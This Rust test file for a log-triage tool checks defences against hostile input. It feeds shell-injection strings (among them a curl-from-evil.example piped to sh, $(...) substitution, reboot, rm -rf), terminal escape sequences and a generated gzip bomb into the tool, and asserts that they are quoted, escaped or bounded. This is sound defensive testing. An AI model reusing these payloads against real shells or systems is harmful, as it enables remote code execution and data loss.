//! Hostile input (issue 8): what a log line, a file name or an argument can do to triage, and
//! to the person who pastes its remedy commands into a root shell.

use crate::common;

use std::{
    collections::BTreeSet,
    io::{Read, Write},
    process::{Command, Output, Stdio},
    time::{Duration, Instant},
};

use crate::common::{Deadline, triage};

use triage::{
    catalogue::Catalogue,
    explain::{UnfilledReason, fill_command},
};

/// A value no template contains, so its place in a filled command can be found.
const BENIGN: &str = "BENIGNxVALUE";

/// Values a log line can put in a capture, meant to end the quoting they land in, run a
/// command, or split a word.
const HOSTILE: [&str; 16] = [
    "/etc/x'; curl -fsSL http://evil.example/p | sh; : '",
    "a\"b",
    "\"; reboot; \"",
    "$(touch /tmp/triage-pwned)",
    "`touch /tmp/triage-pwned`",
    "x; rm -rf /tmp/triage-pwned",
    "x | sh",
    "x && reboot &",
    "a\\b\\",
    "'\\''",
    "* ?[a-z]",
    "$HOME ${IFS}x",
    "a  b c ",
    "{a,b}",
    "x!!y !-1",
    "> /etc/passwd < /dev/null",
];

/// Values no quoting makes safe to paste: they must leave the placeholder unfilled. (A tab
/// pasted into an interactive shell without bracketed paste asks for completion.)
const UNPASTEABLE: [&str; 8] = [
    "a\tb",
    "x\nreboot",
    "x\r\nreboot",
    "\x1b]52;c;cmVib290\x07",
    "a\u{9b}2Jb",
    "x\u{202e}toober",
    "zero\u{200b}width",
    "del\u{7f}",
];

/// The words of `command` as a POSIX shell reads them, by Python's shlex with shell operators
/// (`;`, `|`, `&`, `<`, `>`, `(`, `)`) as words of their own: a second parser, not ours.
fn shlex_words(commands: &[String]) -> Vec<Option<Vec<String>>> {
    let script = r#"
import json, shlex, sys
out = []
for command in json.load(sys.stdin):
    try:
        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        out.append(list(lexer))
    except ValueError:
        out.append(None)
json.dump(out, sys.stdout)
"#;
    let mut child = Command::new("python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 is needed to check remedy commands with a second shell parser");
    let input = serde_json::to_vec(commands).unwrap();
    child.stdin.take().unwrap().write_all(&input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "python3 shlex failed");
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Every placeholder name in `command`, as the filler sees them.
fn placeholders(command: &str) -> BTreeSet<String> {
    fill_command(command, &[])
        .unfilled
        .into_iter()
        .map(|u| u.name)
        .collect()
}

#[test]
fn captures_cannot_plant_commands_in_any_remedy() {
    let (catalogue, errors) = Catalogue::builtin();
    assert!(errors.is_empty(), "{errors:?}");
    // (entry, template, placeholder, hostile value, filled command)
    let mut cases: Vec<(String, String, String, String, String)> = Vec::new();
    let mut benign_fills: Vec<String> = Vec::new();
    let mut templates = 0;
    for entry in catalogue.entries() {
        for command in entry.remedy.iter().flat_map(|step| &step.run) {
            let names = placeholders(command);
            if names.is_empty() {
                continue;
            }
            templates += 1;
            let benign: Vec<(String, String)> = names
                .iter()
                .map(|n| (n.clone(), BENIGN.to_string()))
                .collect();
            let filled = fill_command(command, &benign);
            assert!(filled.is_complete(), "{}: {filled:?}", entry.id);
            benign_fills.push(filled.text.clone());
            for name in &names {
                for hostile in HOSTILE {
                    let captures: Vec<(String, String)> = names
                        .iter()
                        .map(|n| {
                            let value = if n == name { hostile } else { BENIGN };
                            (n.clone(), value.to_string())
                        })
                        .collect();
                    let filled = fill_command(command, &captures);
                    assert!(
                        filled.is_complete(),
                        "{}: {hostile:?} in {{{name}}} could be quoted: {filled:?}",
                        entry.id
                    );
                    cases.push((
                        entry.id.clone(),
                        command.clone(),
                        name.clone(),
                        hostile.to_string(),
                        filled.text,
                    ));
                }
                for unpasteable in UNPASTEABLE {
                    let captures: Vec<(String, String)> = names
                        .iter()
                        .map(|n| {
                            let value = if n == name { unpasteable } else { BENIGN };
                            (n.clone(), value.to_string())
                        })
                        .collect();
                    let filled = fill_command(command, &captures);
                    assert!(
                        filled.text.contains(&format!("<{name}>"))
                            && !filled.text.contains(unpasteable)
                            && !filled.text.chars().any(char::is_control),
                        "{}: {unpasteable:?} must leave {{{name}}} marked: {filled:?}",
                        entry.id
                    );
                    assert!(
                        filled
                            .unfilled
                            .iter()
                            .any(|u| &u.name == name && u.reason == UnfilledReason::Unprintable),
                        "{filled:?}"
                    );
                }
            }
        }
    }
    // The catalogue fills commands from captures; if it stops doing so this test proves
    // nothing and must be looked at.
    assert!(
        templates >= 3,
        "only {templates} commands with placeholders"
    );

    // Parser one: shell-words (quotes and escapes as sh reads them).
    // The words of `template` with every placeholder benign but `name`, which holds a marker.
    const MARKER: &str = "HOSTILExPLACE";
    let benign_words = |template: &str, name: &str| -> Vec<String> {
        let captures: Vec<(String, String)> = placeholders(template)
            .iter()
            .map(|n| {
                let value = if n == name { MARKER } else { BENIGN };
                (n.clone(), value.to_string())
            })
            .collect();
        shell_words::split(&fill_command(template, &captures).text).unwrap()
    };
    for (id, template, name, hostile, filled) in &cases {
        let expected: Vec<String> = benign_words(template, name)
            .iter()
            .map(|w| w.replace(MARKER, hostile))
            .collect();
        let words = shell_words::split(filled)
            .unwrap_or_else(|e| panic!("{id}: {filled:?} does not parse: {e}"));
        assert_eq!(
            words, expected,
            "{id}: {hostile:?} in {{{name}}} changed the words of {template:?}"
        );
        assert!(
            words
                .iter()
                .filter(|w| w.contains(hostile.as_str()))
                .count()
                >= 1,
            "{id}: {hostile:?} is not one word's text in {filled:?}"
        );
    }

    // Parser two: Python's shlex, which also splits off unquoted shell operators. Each case
    // is compared with the same template filled with a marker where the hostile value went.
    let marker_fills: Vec<String> = cases
        .iter()
        .map(|(_, template, name, _, _)| {
            let captures: Vec<(String, String)> = placeholders(template)
                .iter()
                .map(|n| {
                    let value = if n == name { MARKER } else { BENIGN };
                    (n.clone(), value.to_string())
                })
                .collect();
            fill_command(template, &captures).text
        })
        .collect();
    let mut all: Vec<String> = benign_fills.clone();
    all.extend(cases.iter().map(|c| c.4.clone()));
    all.extend(marker_fills.iter().cloned());
    let parsed = shlex_words(&all);
    for text in &parsed[..benign_fills.len()] {
        assert!(text.is_some(), "a benign command does not parse");
    }
    let (hostile_parsed, marker_parsed) = parsed[benign_fills.len()..].split_at(cases.len());
    for ((case, words), marked) in cases.iter().zip(hostile_parsed).zip(marker_parsed) {
        let (id, _, name, hostile, filled) = case;
        let expected: Vec<String> = marked
            .as_ref()
            .expect("the marked command parses")
            .iter()
            .map(|w| w.replace(MARKER, hostile))
            .collect();
        assert_eq!(
            words.as_ref(),
            Some(&expected),
            "{id}: {hostile:?} in {{{name}}} changed the shell words of {filled:?}"
        );
    }
}

/// How long any run of the binary may take before the test kills it and fails.
const DEADLINE: Duration = Duration::from_secs(20);

/// Run `cmd` to completion with `stdin` fed in, killing it and failing the test if it is not
/// done within [`DEADLINE`].
fn run_with_deadline(mut cmd: Command, stdin: &[u8]) -> Output {
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn triage");
    let mut pipe = child.stdin.take().unwrap();
    let data = stdin.to_vec();
    let writer = std::thread::spawn(move || {
        let _ = pipe.write_all(&data);
    });
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out_reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = stdout.read_to_end(&mut buf);
        buf
    });
    let err_reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = stderr.read_to_end(&mut buf);
        buf
    });
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > DEADLINE {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} still running after {DEADLINE:?}: killed");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let _ = writer.join();
    Output {
        status,
        stdout: out_reader.join().unwrap(),
        stderr: err_reader.join().unwrap(),
    }
}

/// Bytes a terminal would obey: C0 controls but tab and newline, DEL, and C1 controls (as
/// UTF-8, and as the raw bytes some terminals take).
fn terminal_controls(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .filter(|&(_, c)| c.is_control() && c != '\n' && c != '\t')
        .map(|(at, c)| format!("{c:?} at {at}"))
        .collect()
}

/// A line the catalogue knows, to make a hit.
fn known_line() -> String {
    let (catalogue, _) = Catalogue::builtin();
    catalogue.get("oom-kill").unwrap().examples[0].clone()
}

#[test]
fn file_names_are_never_written_raw() {
    let dir = tempfile::tempdir().unwrap();
    let name = "evil\x1b]0;pwned\x07\x1b[2J\u{9b}31m.log";
    let path = dir.path().join(name);
    std::fs::write(&path, format!("{}\n", known_line())).unwrap();
    let missing = dir.path().join("gone\x1b[31m\x07.log");
    for args in [
        vec!["scan"],
        vec!["scan", "--group"],
        vec!["scan", "--summary"],
    ] {
        let mut cmd = triage();
        cmd.args(&args).arg(&path).arg(&missing);
        let out = run_with_deadline(cmd, b"");
        let (stdout, stderr) = (common::stdout(&out), common::stderr(&out));
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stdout}{stderr}");
        assert!(
            terminal_controls(&out.stdout).is_empty() && terminal_controls(&out.stderr).is_empty(),
            "{args:?}: raw controls {:?} {:?}\n{stdout}\n{stderr}",
            terminal_controls(&out.stdout),
            terminal_controls(&out.stderr)
        );
        // The names are there, shown as escapes.
        assert!(
            stdout.contains(r"evil\x1b]0;pwned\x07\x1b[2J\u{9b}31m.log"),
            "{args:?}: {stdout}"
        );
        assert!(
            stderr.contains(r"gone\x1b[31m\x07.log"),
            "{args:?}: {stderr}"
        );
    }
}

/// The hits of `scan --format jsonl` on `line`: (text, the text of each span).
fn jsonl_spans(line: &[u8]) -> (Vec<u8>, Vec<(String, Vec<String>)>) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("line.log");
    let mut bytes = line.to_vec();
    bytes.push(b'\n');
    std::fs::write(&path, bytes).unwrap();
    let mut cmd = triage();
    cmd.args(["scan", "--format", "jsonl"]).arg(&path);
    let out = run_with_deadline(cmd, b"");
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let hits = common::jsonl(&out)
        .iter()
        .map(|hit| {
            let text = hit["text"].as_str().unwrap().to_string();
            // Documented unit: byte offsets into `text` as UTF-8.
            let spans = hit["spans"]
                .as_array()
                .unwrap()
                .iter()
                .map(|span| {
                    let (start, end) = (
                        span[0].as_u64().unwrap() as usize,
                        span[1].as_u64().unwrap() as usize,
                    );
                    text.get(start..end)
                        .unwrap_or_else(|| panic!("span {start}..{end} out of {text:?}"))
                        .to_string()
                })
                .collect();
            (text, spans)
        })
        .collect();
    (out.stdout, hits)
}

#[test]
fn jsonl_spans_point_into_text_and_strings_escape_terminal_controls() {
    let known = known_line();
    let (_, plain) = jsonl_spans(known.as_bytes());
    assert!(!plain.is_empty(), "{known:?} is not a hit");
    // Invalid bytes (each U+FFFD, 3 bytes, in `text`; not first, where FF FE would be read as
    // a UTF-16 byte order mark), a C1 CSI, DEL, a bidi override and a
    // zero-width space before the match.
    let mut hostile = b"x\xff\xfe\xc0 \xc2\x9b2J \x7f \xe2\x80\xae \xe2\x80\x8b ".to_vec();
    hostile.extend_from_slice(known.as_bytes());
    let (stdout, hits) = jsonl_spans(&hostile);
    assert_eq!(hits.len(), plain.len(), "{hits:?}");
    for ((_, spans), (_, plain_spans)) in hits.iter().zip(&plain) {
        assert_eq!(spans, plain_spans, "spans must cover the same text");
    }
    assert!(hits[0].0.contains('\u{9b}') && hits[0].0.contains('\u{202e}'));
    let raw = String::from_utf8(stdout).unwrap();
    for c in ['\u{9b}', '\u{7f}', '\u{202e}', '\u{200b}'] {
        assert!(!raw.contains(c), "{c:?} written raw: {raw}");
    }
    assert!(
        raw.contains(r"\u009b") && raw.contains(r"\u202e") && raw.contains(r"\u200b"),
        "{raw}"
    );
}

#[test]
fn replay_speeds_and_thread_counts_out_of_range_are_refused_clearly() {
    for speed in ["1e308", "0", "-1", "nan", "inf", "-inf", "1e-9", "fast"] {
        let mut cmd = triage();
        cmd.args(["demo", &format!("--replay={speed}")]);
        let out = run_with_deadline(cmd, b"");
        let stderr = common::stderr(&out);
        assert_eq!(out.status.code(), Some(2), "--replay={speed}: {stderr}");
        assert!(
            stderr.contains("--replay") && !stderr.contains("panicked"),
            "--replay={speed}: {stderr}"
        );
    }
    // In range: accepted (not a terminal, so the demo's hits are printed).
    for speed in ["60", "0.5", "1e6"] {
        let mut cmd = triage();
        cmd.args(["demo", &format!("--replay={speed}")]);
        let out = run_with_deadline(cmd, b"");
        assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    }
    for threads in ["100000", "0", "-3", "18446744073709551616"] {
        let mut cmd = triage();
        cmd.args(["scan", "--demo", &format!("-j{threads}")]);
        let out = run_with_deadline(cmd, b"");
        let stderr = common::stderr(&out);
        assert_eq!(out.status.code(), Some(2), "-j{threads}: {stderr}");
        assert!(
            stderr.contains("threads from 1 to") && !stderr.contains("panicked"),
            "-j{threads}: {stderr}"
        );
    }
    let mut cmd = triage();
    cmd.args(["scan", "--demo", "-j", "64"]);
    let out = run_with_deadline(cmd, b"");
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
}

#[test]
fn a_fifo_in_a_patterns_dir_is_skipped_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(
        common::fixture("override/oom.toml"),
        dir.path().join("oom.toml"),
    )
    .unwrap();
    let fifo = dir.path().join("a-fifo.toml");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let mut cmd = triage();
    cmd.arg("--patterns")
        .arg(dir.path())
        .args(["scan", "--format", "jsonl"])
        .arg(common::fixture("bad-patterns/input.log"));
    let out = run_with_deadline(cmd, b"");
    let stderr = common::stderr(&out);
    assert!(
        stderr.contains("a-fifo.toml") && stderr.contains("not a regular file (a FIFO)"),
        "{stderr}"
    );
    // The other file still loads: its wording of oom-kill is used.
    let oom = common::jsonl(&out)
        .into_iter()
        .find(|h| h["pattern"] == "oom-kill")
        .expect("an oom-kill hit");
    assert_eq!(oom["title"], "OOM (our own wording)");
}

#[test]
fn a_user_regex_over_the_size_limit_is_reported_at_load() {
    let dir = tempfile::tempdir().unwrap();
    let entry = |id: &str, regex: &str| {
        format!(
            "[[entry]]\nid = \"{id}\"\nseverity = \"error\"\ntitle.en = \"t\"\ntitle.zh = \"t\"\n\
             cause.en = \"c\"\ncause.zh = \"c\"\nregex = ['''{regex}''']\n\n\
             [[entry.remedy]]\nen = \"r\"\nzh = \"r\"\n\n"
        )
    };
    // The too-big regex is on line 8 of the file.
    let text = entry("too-big", "a{1000}{1000}") + &entry("fine-one", "DEMO-ONE-FAILED");
    assert_eq!(text.lines().nth(7), Some("regex = ['''a{1000}{1000}''']"));
    std::fs::write(dir.path().join("mine.toml"), text).unwrap();
    let mut cmd = triage();
    cmd.arg("--patterns")
        .arg(dir.path())
        .args(["scan", "--format", "jsonl"])
        .arg(common::fixture("bad-patterns/input.log"));
    let out = run_with_deadline(cmd, b"");
    let stderr = common::stderr(&out);
    assert!(
        stderr.contains("mine.toml:8: entry `too-big`: regex does not compile")
            && stderr.contains("size limit"),
        "{stderr}"
    );
    // The rest of the file still loads and matches.
    let hits = common::jsonl(&out);
    assert!(hits.iter().any(|h| h["pattern"] == "fine-one"), "{hits:?}");
}

/// The viewer on one log of `text`, with its first hit selected.
fn viewer_on(text: &'static [u8]) -> triage::app::App {
    use triage::loader::{LogData, LogFile};
    let log = LogFile::open("hostile.log", LogData::Static(text), None).unwrap();
    let mut app = common::app_with(
        vec![log],
        common::options(triage::catalogue::Lang::En),
        160,
        48,
    );
    common::press(&mut app, "n");
    app
}

#[test]
fn the_viewer_copies_a_hostile_path_quoted_and_an_unpasteable_one_marked() {
    use triage::app::Command as AppCommand;
    let mut app = viewer_on(
        b"2026/11/28 14:03:05 [emerg] 1#1: open() \"/etc/x'; curl -fsSL http://evil.example/p | sh; : '\" failed (21: Is a directory)\n",
    );
    let commands = common::press(&mut app, "y");
    let [AppCommand::Copy(text)] = commands.as_slice() else {
        panic!("{commands:?} {:?}", app.message)
    };
    assert_eq!(
        shell_words::split(text).unwrap(),
        [
            "docker",
            "compose",
            "-f",
            "<compose_file>",
            "config",
            "|",
            "grep",
            "-B2",
            "target: /etc/x'; curl -fsSL http://evil.example/p | sh; : '",
        ],
        "{text}"
    );
    assert!(
        app.message.as_deref().unwrap().starts_with("Copied"),
        "{:?}",
        app.message
    );

    let mut app = viewer_on(
        b"2026/11/28 14:03:05 [emerg] 1#1: open() \"/etc/x\x1b]52;c;cmVib290\x07\" failed (21: Is a directory)\n",
    );
    let commands = common::press(&mut app, "y");
    let [AppCommand::Copy(text)] = commands.as_slice() else {
        panic!("{commands:?} {:?}", app.message)
    };
    assert!(text.ends_with("grep -B2 'target: <path>'"), "{text:?}");
    let message = app.message.as_deref().unwrap();
    assert!(
        message.contains("fill in ") && message.contains("<path> before running"),
        "{message}"
    );
}

#[test]
fn a_search_regex_over_the_size_limit_says_why() {
    let mut app = viewer_on(b"a line\n");
    common::press(&mut app, "/a{1000}{1000}\n");
    let message = app.message.as_deref().unwrap_or("");
    assert!(message.contains("Regex too big"), "{message:?}");
}

#[test]
fn file_names_that_are_not_utf8_are_scanned() {
    use std::{ffi::OsStr, os::unix::ffi::OsStrExt};
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join(OsStr::from_bytes(b"caf\xe9-\xff.log"));
    let good = dir.path().join("good.log");
    for path in [&bad, &good] {
        std::fs::write(path, format!("{}\n", known_line())).unwrap();
    }
    let mut cmd = triage();
    cmd.args(["scan", "--format", "jsonl"]).arg(&bad).arg(&good);
    let out = run_with_deadline(cmd, b"");
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let files: Vec<String> = common::jsonl(&out)
        .iter()
        .map(|h| h["file"].as_str().unwrap().to_string())
        .collect();
    assert!(
        files.iter().any(|f| f.ends_with(r"caf\xe9-\xff.log"))
            && files.iter().any(|f| f.ends_with("good.log")),
        "{files:?}"
    );
    // The viewer's own arguments too (not a terminal here: it prints the hits instead).
    let mut cmd = triage();
    cmd.arg(&bad);
    let out = run_with_deadline(cmd, b"");
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    assert!(
        common::stdout(&out).contains(r"caf\xe9-\xff.log:1"),
        "{}",
        common::stdout(&out)
    );
    // The text output names it the same way.
    let mut cmd = triage();
    cmd.arg("scan").arg(&bad);
    let out = run_with_deadline(cmd, b"");
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    assert!(
        common::stdout(&out).contains(r"caf\xe9-\xff.log:1"),
        "{}",
        common::stdout(&out)
    );
}

#[test]
fn utf16_logs_with_a_byte_order_mark_are_decoded() {
    let line = known_line();
    let dir = tempfile::tempdir().unwrap();
    let text = format!("first line\r\n{line}\r\nlast line\r\n");
    let little: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let big: Vec<u8> = [0xfe, 0xff]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    for (name, bytes) in [("le.log", little), ("be.log", big)] {
        let path = dir.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        let mut cmd = triage();
        cmd.args(["scan", "--format", "jsonl"]).arg(&path);
        let out = run_with_deadline(cmd, b"");
        assert_eq!(
            out.status.code(),
            Some(0),
            "{name}: {}",
            common::stderr(&out)
        );
        let hits = common::jsonl(&out);
        assert!(
            hits.iter().any(|h| h["pattern"] == "oom-kill"
                && h["line"] == 2
                && h["text"].as_str().unwrap().trim_end() == line),
            "{name}: {hits:?}"
        );
        // Through a pipe too.
        let mut cmd = triage();
        cmd.args(["scan", "--format", "jsonl", "-"]);
        let out = run_with_deadline(cmd, &bytes);
        assert!(
            common::jsonl(&out)
                .iter()
                .any(|h| h["pattern"] == "oom-kill"),
            "{name} from stdin: {}",
            common::stderr(&out)
        );
    }
}

#[test]
fn the_viewer_decodes_utf16_files_too() {
    use triage::loader::{LogData, LogFile};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("utf16.log");
    let text = format!("first line\n{}\n", known_line());
    let bytes: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    std::fs::write(&path, bytes).unwrap();
    let log = LogFile::open("utf16.log", LogData::Path(path), None).unwrap();
    let mut app = common::app_with(
        vec![log],
        common::options(triage::catalogue::Lang::En),
        160,
        48,
    );
    common::press(&mut app, "n");
    let selected = app.selected.expect("a hit in the UTF-16 file");
    assert_eq!(app.entry_of(selected).unwrap().id, "oom-kill");
}

/// Templates in every quoting context the filler handles, beyond those the catalogue uses
/// today, so that a catalogue change cannot leave a context untested.
const CONTEXTS: [&str; 6] = [
    "grep -F {x} /var/log/syslog",
    "grep 'at {x}' /var/log/syslog",
    "grep \"at {x} now\" /var/log/syslog",
    "docker ps --filter name={x}",
    "echo pre{x}post 'mid {x}' \"{x}\" {x}",
    "docker inspect --format '{{.Name}} {x}' {x} | grep -B2 \"{x}\"",
];

#[test]
fn random_values_keep_the_words_of_every_template() {
    let (catalogue, _) = Catalogue::builtin();
    let mut templates: Vec<String> = catalogue
        .entries()
        .iter()
        .flat_map(|e| e.remedy.iter().flat_map(|s| s.run.iter().cloned()))
        .filter(|c| !placeholders(c).is_empty())
        .collect();
    templates.extend(CONTEXTS.iter().map(|c| c.to_string()));
    let alphabet: Vec<char> = "'\"\\$()`;|&*?[]{}!~#=<>^% \u{a0}ab-,.:/é数"
        .chars()
        .collect();
    // A fixed xorshift sequence: the same values on every run, so a failure reproduces.
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut filled_count = 0;
    let mut pairs: Vec<(String, String, String)> = Vec::new();
    // 200 values over every template with a placeholder (a few hundred since the remedies
    // name the user's own services): some 60,000 filled commands, each parsed twice.
    for _ in 0..200 {
        let len = (next() % 14) as usize;
        let value: String = (0..len)
            .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
            .collect();
        for template in &templates {
            let names = placeholders(template);
            let with = |v: &str| -> Vec<(String, String)> {
                names.iter().map(|n| (n.clone(), v.to_string())).collect()
            };
            let benign = fill_command(template, &with(BENIGN));
            let filled = fill_command(template, &with(&value));
            if !filled.is_complete() {
                // Only a leading `-` where a word begins may be refused here.
                assert!(
                    value.starts_with('-')
                        && filled
                            .unfilled
                            .iter()
                            .all(|u| u.reason == UnfilledReason::LooksLikeOption),
                    "{template:?} with {value:?}: {filled:?}"
                );
                continue;
            }
            filled_count += 1;
            let expected: Vec<String> = shell_words::split(&benign.text)
                .unwrap()
                .iter()
                .map(|w| w.replace(BENIGN, &value))
                .collect();
            let words = shell_words::split(&filled.text)
                .unwrap_or_else(|e| panic!("{template:?} with {value:?}: {filled:?}: {e}"));
            assert_eq!(
                words, expected,
                "{template:?} with {value:?}: {:?}",
                filled.text
            );
            pairs.push((benign.text, filled.text, value.clone()));
        }
    }
    assert!(filled_count > 10_000, "{filled_count}");
    // The same through Python's shlex, which also splits off unquoted shell operators.
    let mut commands: Vec<String> = Vec::new();
    for (benign, filled, _) in &pairs {
        commands.push(benign.clone());
        commands.push(filled.clone());
    }
    let parsed = shlex_words(&commands);
    for (n, (benign, filled, value)) in pairs.iter().enumerate() {
        let benign_words = parsed[2 * n].as_ref().expect("benign command parses");
        let expected: Vec<String> = benign_words
            .iter()
            .map(|w| w.replace(BENIGN, value))
            .collect();
        assert_eq!(
            parsed[2 * n + 1].as_ref(),
            Some(&expected),
            "{benign:?} → {filled:?} with {value:?}"
        );
    }
}

/// The exit code a shell printed with `echo EXIT=$?` (a line of its own: the command line
/// that asks for it is no answer).
fn exit_code(screen: &str) -> Option<String> {
    screen
        .lines()
        .find_map(|l| l.trim_end().strip_prefix("EXIT=").map(str::to_string))
}

/// Write `bytes` bytes of log lines to `path`: a first line to find, then filler.
fn write_big_log(path: &std::path::Path, bytes: usize) {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    out.write_all(b"FIRST-LINE of the big log\n").unwrap();
    let mut chunk = Vec::with_capacity(1 << 20);
    let mut n = 0u64;
    while chunk.len() < (1 << 20) - 100 {
        n += 1;
        writeln!(
            chunk,
            "filler line {n:08} of a log that is cut short under the viewer"
        )
        .unwrap();
    }
    let mut written = 0;
    while written < bytes {
        out.write_all(&chunk).unwrap();
        written += chunk.len();
    }
    out.flush().unwrap();
}

/// Issue 8: a log cut short under the viewer (`truncate -s 0`, as logrotate's copytruncate
/// does) while it is being read. Mapped, its pages faulted with SIGBUS at the next `G`: "Bus
/// error", exit 135, the terminal left raw on the alternate screen. Read, the viewer goes on:
/// the pane says the file shrank and keeps the lines read; lines written after the cut are
/// followed, and so is a new file put at the path (rotation). `q` leaves the terminal as it
/// was, exit 0.
#[test]
fn a_log_cut_short_while_the_viewer_reads_it_is_survived_followed_and_said() {
    use crate::terminal::{TRIAGE, Tmux};
    let tmux = Tmux::new(160, 48);
    let dir = tmux.dir().to_path_buf();
    let log = dir.join("big.log");
    write_big_log(&log, 200 << 20);
    tmux.run(&format!("cd {}", dir.display()));
    tmux.run("stty -g > before.stty");
    tmux.run(&format!("{TRIAGE} big.log; echo EXIT=$?"));
    // Cut while the file is being read (the status line still shows its progress) or, on a
    // fast machine, as soon as its first lines are on screen.
    tmux.wait_for("the first lines", |s| s.contains("FIRST-LINE"));
    let loading = tmux.screen().contains("%]");
    let status = Command::new("truncate")
        .args(["-s", "0"])
        .arg(&log)
        .status()
        .unwrap();
    assert!(status.success());
    tmux.keys(&["G"]);
    let screen = tmux.wait_for("the pane saying the file shrank", |s| {
        s.contains("file shrank") && s.contains("lines read kept")
    });
    eprintln!("cut while loading: {loading}");
    assert!(screen.contains("filler line"), "{screen}");
    assert!(exit_code(&screen).is_none(), "the viewer ended:\n{screen}");
    // What was read is kept: the first line is still there.
    tmux.keys(&["g"]);
    tmux.wait_for("the first line, kept", |s| s.contains("FIRST-LINE"));

    // Lines written after the cut are followed (`f`): the file grew again.
    tmux.keys(&["f"]);
    tmux.wait_for("FOLLOW", |s| s.contains("FOLLOW"));
    std::fs::OpenOptions::new()
        .append(true)
        .open(&log)
        .unwrap()
        .write_all(b"APPENDED-AFTER-CUT: No space left on device\n")
        .unwrap();
    tmux.wait_for("the appended line", |s| s.contains("APPENDED-AFTER-CUT"));

    // Rotation: the file renamed away, a new one at its path.
    std::fs::rename(&log, dir.join("big.log.1")).unwrap();
    std::fs::write(&log, "ROTATED-IN first line of the new file\n").unwrap();
    tmux.wait_for("the new file's line and the note", |s| {
        s.contains("ROTATED-IN") && s.contains("rotated")
    });

    tmux.keys(&["q"]);
    let screen = tmux.wait_for("the exit", |s| exit_code(s).is_some());
    assert_eq!(exit_code(&screen).as_deref(), Some("0"), "{screen}");
    tmux.run("stty -g > after.stty; cmp before.stty after.stty && echo SAME-MODES");
    tmux.wait_for("the terminal's modes restored", |s| {
        s.contains("SAME-MODES")
    });
}

/// A gzip bomb: `members` gzip members of 64 MiB of zeros each (no line end anywhere), one
/// stream to any reader of multi-member gzip: `members * 64` MiB of one endless line.
fn write_gzip_bomb(path: &std::path::Path, members: usize) {
    use flate2::{Compression, write::GzEncoder};
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        encoder.write_all(&zeros).unwrap();
    }
    let member = encoder.finish().unwrap();
    let mut out = std::fs::File::create(path).unwrap();
    for _ in 0..members {
        out.write_all(&member).unwrap();
    }
}

/// The largest resident set of any child this test process has waited for, in bytes.
/// (nextest runs each test in a process of its own: the children are this test's.)
fn children_peak_rss() -> u64 {
    // SAFETY: getrusage fills the struct it is given.
    let usage = unsafe {
        let mut usage: libc::rusage = std::mem::zeroed();
        assert_eq!(libc::getrusage(libc::RUSAGE_CHILDREN, &mut usage), 0);
        usage
    };
    usage.ru_maxrss as u64 * 1024
}

/// Issue 8: 5 GB of zeros gzips to 23 MB; scanning it aborted with "memory allocation of
/// 8589934592 bytes failed" and the next file was never scanned (1 GB of zeros took 3.1 GB).
/// Decompression streams and a line is cut at 1 MiB, the rest skipped: a 1 GiB bomb is
/// scanned in under 100 MiB and the file after it still is.
#[test]
fn a_gzip_bomb_is_scanned_in_bounded_memory_and_the_next_file_still_is() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = dir.path().join("bomb.log.gz");
    write_gzip_bomb(&bomb, 16);
    assert!(std::fs::metadata(&bomb).unwrap().len() < 4 << 20);
    let after = dir.path().join("after.log");
    std::fs::write(&after, format!("{}\n", known_line())).unwrap();
    let before_rss = children_peak_rss();
    let out = triage()
        .args(["scan", "--format", "jsonl"])
        .arg(&bomb)
        .arg(&after)
        .output_within(common::COMMAND);
    let peak = children_peak_rss();
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let hits = common::jsonl(&out);
    assert!(
        hits.iter()
            .any(|h| h["file"].as_str().unwrap().ends_with("after.log")),
        "the file after the bomb was scanned: {hits:?}"
    );
    assert!(
        peak < 100 << 20,
        "peak RSS of scan on a 1 GiB gzip bomb: {} MiB (children before: {} MiB)",
        peak >> 20,
        before_rss >> 20
    );
    eprintln!("peak RSS of scan on a 1 GiB gzip bomb: {} MiB", peak >> 20);
}

/// Issue 8: `triage oom.log trunc.gz` marked both files `[failed: incomplete deflate
/// stream]`. Each file keeps its own state: the good one is read whole, the one cut short
